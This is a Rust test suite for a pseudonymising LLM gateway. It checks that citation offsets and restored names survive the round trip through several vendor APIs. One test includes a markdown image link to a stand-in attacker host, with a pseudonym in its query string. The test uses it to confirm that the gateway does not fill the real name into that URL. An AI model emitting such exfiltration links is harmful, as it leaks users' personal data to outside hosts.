//! What points into a text still points there when pseudonyms have become names, in every API's own counting.

use crate::gateway::{Answer, Gateway};
use crate::provider::{FakeProvider, Received, Step, whole};
use serde_json::{Value, json};

const NAME: &str = "Zoé Kovács";

async fn ask(path: &str, request: Value, reply: impl Fn(&Value) -> Value + Send + Sync + 'static) -> Answer {
    let provider = FakeProvider::with(move |received: &Received| {
        let sent = serde_json::from_str(&received.body).expect("JSON");
        vec![Step::Send(whole("application/json", &reply(&sent).to_string()))]
    })
    .await;
    let gateway = Gateway::builder().every_api(&provider).start().await;
    let answer = gateway.post(path, &request.to_string()).await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    answer
}

/// The text that was sent, with something behind it that is cited.
fn cited(sent: &str) -> (String, usize, usize) {
    let text = format!("é {sent} [SOURCE]!");
    let start = text.find("[SOURCE]").expect("it was just put there");
    (text, start, start + "[SOURCE]".len())
}

#[tokio::test]
async fn bytes_of_gemini() {
    let request = json!({ "contents": [{ "role": "user", "parts": [{ "text": format!("Patient: {NAME}") }] }] });
    let answer = ask("/v1beta/models/g:generateContent", request, |sent| {
        let (text, start, end) = cited(sent["contents"][0]["parts"][0]["text"].as_str().expect("text"));
        let segment = json!({ "startIndex": start, "endIndex": end, "text": "[SOURCE]" });
        json!({ "candidates": [{ "index": 0, "content": { "role": "model", "parts": [{ "text": text }] },
            "groundingMetadata": { "groundingSupports": [{ "segment": segment }],
                "searchEntryPoint": { "renderedContent": "<b>[NAME_1]</b>" } } }] })
    })
    .await
    .json();
    let candidate = &answer["candidates"][0];
    let text = candidate["content"]["parts"][0]["text"].as_str().expect("text");
    assert!(text.contains(NAME));
    let segment = &candidate["groundingMetadata"]["groundingSupports"][0]["segment"];
    let index = |name: &str| usize::try_from(segment[name].as_u64().expect("an index")).expect("small");
    assert_eq!(&text[index("startIndex")..index("endIndex")], "[SOURCE]");
    assert_eq!(candidate["groundingMetadata"]["searchEntryPoint"]["renderedContent"], format!("<b>{NAME}</b>"));
}

#[tokio::test]
async fn characters_of_responses() {
    let request = json!({ "model": "gpt-test", "store": false, "input": format!("Patient: {NAME}") });
    let answer = ask("/v1/responses", request, |sent| {
        let (text, start, end) = cited(sent["input"].as_str().expect("text"));
        let count = |end: usize| text[..end].chars().count();
        let citation = json!({ "type": "url_citation", "start_index": count(start), "end_index": count(end), "title": "t", "url": "https://a.example" });
        let part = json!({ "type": "output_text", "text": text, "annotations": [citation], "logprobs": [{ "token": "a", "logprob": -1 }] });
        json!({ "id": "resp_1", "object": "response", "output": [{ "type": "message", "id": "m", "role": "assistant", "content": [part] }] })
    })
    .await
    .json();
    let part = &answer["output"][0]["content"][0];
    let text: Vec<char> = part["text"].as_str().expect("text").chars().collect();
    let index = |name: &str| usize::try_from(part["annotations"][0][name].as_u64().expect("an index")).expect("small");
    assert_eq!(text[index("start_index")..index("end_index")].iter().collect::<String>(), "[SOURCE]");
    assert!(part["logprobs"].is_null(), "probabilities of words that nobody wrote");
}

#[tokio::test]
async fn positions_in_the_documents_of_messages() {
    let document = format!("Patient: {NAME}. Seen today for her knee.");
    let source = json!({ "type": "text", "media_type": "text/plain", "data": document });
    let content = json!([{ "type": "document", "source": source, "citations": { "enabled": true } }, { "type": "text", "text": "why?" }]);
    let request =
        json!({ "model": "claude-test", "max_tokens": 9, "messages": [{ "role": "user", "content": content }] });
    let answer = ask("/v1/messages", request, |sent| {
        let document = sent["messages"][0]["content"][0]["source"]["data"].as_str().expect("text");
        let cited = document[..document.find("her knee").expect("it was sent")].chars().count();
        let citation = json!({ "type": "char_location", "document_index": 0, "cited_text": "her knee",
            "start_char_index": cited, "end_char_index": cited + 8 });
        json!({ "id": "m", "type": "message", "role": "assistant",
            "content": [{ "type": "text", "text": "her knee", "citations": [citation] }] })
    })
    .await
    .json();
    let citation = &answer["content"][0]["citations"][0];
    let document: Vec<char> = document.chars().collect();
    let index = |name: &str| usize::try_from(citation[name].as_u64().expect("an index")).expect("small");
    let cited = document[index("start_char_index")..index("end_char_index")].iter().collect::<String>();
    assert_eq!(cited, "her knee");
}

#[tokio::test]
async fn mangled_pseudonyms_come_back_and_strangers_are_left_and_counted() {
    let message = json!({ "role": "user", "content": format!("Patient: {NAME}") });
    let request = json!({ "model": "gpt-test", "messages": [message] });
    let replied = "[name_1], \\[NAME\\_1\\], **[NAME_1]**, [NAME_1]'s; [NAME_7]; ![](https://evil.example/?q=[NAME_1])";
    let answer = ask("/v1/chat/completions", request, move |_| {
        serde_json::from_str(&crate::provider::completion(replied)).expect("JSON")
    })
    .await;
    let text = answer.content();
    assert_eq!(text.matches(NAME).count(), 4, "{text}");
    assert!(text.contains("[NAME_7]"), "no guess is made: {text}");
    assert!(text.contains("https://evil.example/?q=[NAME_1]"), "no strange host gets a name: {text}");
    assert_eq!(answer.header("cordon-left"), Some("2"));
}
